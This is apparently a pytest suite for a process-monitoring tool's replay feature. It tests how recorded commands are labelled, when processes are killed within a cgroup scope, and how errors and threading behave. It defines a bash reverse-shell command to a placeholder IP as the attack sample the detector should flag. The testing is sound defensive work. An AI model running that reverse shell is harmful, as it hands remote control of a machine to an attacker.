"""`Warden.replay` without model files."""

import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import RULES_ONLY, Pipe, ctrl_c_after

import inwarden

HEADER = '{"schema":"inwarden.recording/1"}'
ATTACK = '{"id":"2","argv":["bash","-c","bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"]}'
# Only a process with a key can be acted upon.
ATTACK_IN_CGROUP_7 = (
    ATTACK[:-1] + ',"key":"11111111-2222-3333-4444-555555555555:42:1","cgroup_id":7}'
)


def recording(path: Path, *lines: str) -> Path:
    path.write_text("".join(f"{line}\n" for line in (HEADER, *lines)))
    return path


def replay(path: Path, **options) -> Iterator[inwarden.Case]:
    return inwarden.Warden.replay(path, **{"without": RULES_ONLY, **options})


def test_replay_is_an_iterator_of_cases(tmp_path: Path):
    cases = replay(recording(tmp_path / "r.jsonl", '{"id":"1","argv":["ls"]}', ATTACK))
    assert iter(cases) is cases
    assert isinstance(cases, Iterator)
    first, attack = cases
    assert isinstance(first, inwarden.Case)
    assert (first.id, first.argv, first.outcome) == ("1", ["ls"], "allowed")
    assert (attack.id, attack.label, attack.settled_by) == ("2", "malicious", "rule")
    assert attack.argv[2] == "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"
    assert (attack.mode, attack.enforced) == ("monitor", "alert")
    with pytest.raises(StopIteration):
        next(cases)


def test_replay_goes_on_after_a_bad_line(tmp_path: Path):
    cases = replay(recording(tmp_path / "r.jsonl", "not json", ATTACK))
    with pytest.raises(inwarden.DataError, match="line 2"):
        next(cases)
    assert [case.id for case in cases] == ["2"]


def test_replaying_twice_gives_the_same(tmp_path: Path):
    path = recording(tmp_path / "r.jsonl", '{"id":"1","argv":["ls"]}', ATTACK)

    def shown():
        return [(case.id, case.label, case.score, case.policies) for case in replay(path)]

    assert shown() == shown()


def test_outside_the_scope_nothing_is_killed(tmp_path: Path):
    path = recording(tmp_path / "r.jsonl", ATTACK_IN_CGROUP_7)
    decided = {
        scope: next(replay(path, mode="enforce", scope_cgroups=scope)).decision
        for scope in [(), (8,), (7, 8)]
    }
    assert decided == {(): "alert", (8,): "alert", (7, 8): "kill"}


def test_nothing_is_carried_out(tmp_path: Path):
    path = recording(tmp_path / "r.jsonl", ATTACK_IN_CGROUP_7)
    case = next(replay(path, mode="enforce", scope_cgroups={7}))
    assert (case.enforced, case.outcome) == ("kill", "refused")


def test_a_missing_recording_is_a_file_not_found_error(tmp_path: Path):
    with pytest.raises(FileNotFoundError, match="none.jsonl"):
        replay(tmp_path / "none.jsonl")


@pytest.mark.parametrize("text", ["", "not json\n", '{"schema":"inwarden.recording/99"}\n'])
def test_what_is_no_recording_is_a_data_error(tmp_path: Path, text):
    path = tmp_path / "r.jsonl"
    path.write_text(text)
    with pytest.raises(inwarden.DataError, match="r.jsonl"):
        replay(path)


def test_a_wrong_mode_is_a_configuration_error(tmp_path: Path):
    with pytest.raises(inwarden.ConfigurationError, match="mode=.*allowed are"):
        replay(recording(tmp_path / "r.jsonl"), mode="loud")


def test_threads_share_an_iterator(tmp_path: Path):
    events = [f'{{"id":"{number}","argv":["ls"]}}' for number in range(64)]
    cases = replay(recording(tmp_path / "r.jsonl", *events))
    seen = []

    def work():
        seen.extend(case.id for case in cases)

    threads = [threading.Thread(target=work) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(seen, key=int) == [str(number) for number in range(64)]


def test_the_gil_is_free_while_a_case_is_awaited(pipe: Pipe):
    cases = replay(pipe.path)
    seen = []
    thread = threading.Thread(target=lambda: seen.append(next(cases)))
    thread.start()
    # If the waiting thread held the GIL, this line would never be reached.
    time.sleep(0.2)
    assert seen == []
    pipe.write(ATTACK)
    thread.join()
    assert [case.id for case in seen] == ["2"]


def test_ctrl_c_ends_the_wait_and_the_iterator_goes_on(pipe: Pipe):
    cases = replay(pipe.path)
    started = time.monotonic()
    with pytest.raises(KeyboardInterrupt), ctrl_c_after(0.2):
        next(cases)
    assert time.monotonic() - started < 5
    # The case that was awaited is not given again; the one after it is.
    pipe.write('{"id":"1","argv":["ls"]}')
    pipe.write(ATTACK)
    assert next(cases).id == "2"


def test_ctrl_c_ends_opening(tmp_path: Path):
    pipe = Pipe(tmp_path / "no-header.jsonl")
    with pytest.raises(KeyboardInterrupt), ctrl_c_after(0.2):
        replay(pipe.path)
    pipe.write(HEADER)
    pipe.close()
